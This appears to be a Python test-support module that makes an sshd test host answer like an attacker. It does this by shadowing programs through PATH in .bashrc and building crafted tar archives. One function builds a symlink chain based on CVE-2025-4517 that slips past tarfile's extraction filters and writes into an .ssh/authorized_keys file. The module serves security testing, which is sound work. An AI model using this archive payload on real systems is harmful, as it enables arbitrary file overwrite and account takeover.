"""A host that answers as an attacker would, by real sshd: its login shell finds our programs first.

    with sshd_farm(tmp_path, 1) as farm:
        answer_instead(farm.hosts[0], "tar", raw_bytes)

Whatever runs on the host through a shell then gets these bytes in place of the program's output.
"""

from __future__ import annotations

import io
import tarfile

from support.sshd import Sshd

Member = tuple[str, bytes, str]  # name, type, link target or content


def answer_instead(host: Sshd, program: str, output: bytes, status: int = 0) -> None:
    """Let the host print these bytes when the program is called."""
    folder = host.home / ".evil"
    folder.mkdir(exist_ok=True)
    (folder / f"{program}.out").write_bytes(output)
    script = folder / program
    script.write_text(f"#!/bin/sh\ncat '{folder}/{program}.out'\nexit {status}\n")
    script.chmod(0o755)
    (host.home / ".bashrc").write_text(f"export PATH={folder}:$PATH\n")


def pack(*members: Member, mode: int = 0o6777) -> bytes:
    """Return a tar archive with these members, in GNU tar's format."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as writer:
        for name, kind, text in members:
            info = tarfile.TarInfo(name)
            info.type, info.mode, info.mtime = kind, mode, 1_600_000_000
            if kind == tarfile.REGTYPE:
                info.size = len(text.encode())
                writer.addfile(info, io.BytesIO(text.encode()))
            else:
                info.linkname = text
                writer.addfile(info)
    return raw.getvalue()


def chain_of_links(top: str = "") -> list[Member]:
    """Return a chain of links that tarfile's filters follow out of the folder.

    The resolved path is longer than PATH_MAX, so that realpath() stops resolving it. Source: CVE-2025-4517, as
    described in https://github.com/python/cpython/issues/135034 (2025-06).
    """
    members: list[Member] = []
    long, steps, path = "d" * 247, "abcdefghijklmnop", top
    for step in steps:
        members += [(f"{path}{long}", tarfile.DIRTYPE, ""), (f"{path}{step}", tarfile.SYMTYPE, long)]
        path += f"{long}/"
    short = top + "/".join(steps)
    members.append((f"{short}/{'l' * 254}", tarfile.SYMTYPE, "../" * len(steps)))
    members.append((f"{top}escape", tarfile.SYMTYPE, f"{'/'.join(steps)}/{'l' * 254}/../.."))
    members.append((f"{top}escape/.ssh/authorized_keys", tarfile.REGTYPE, "evil"))
    return members
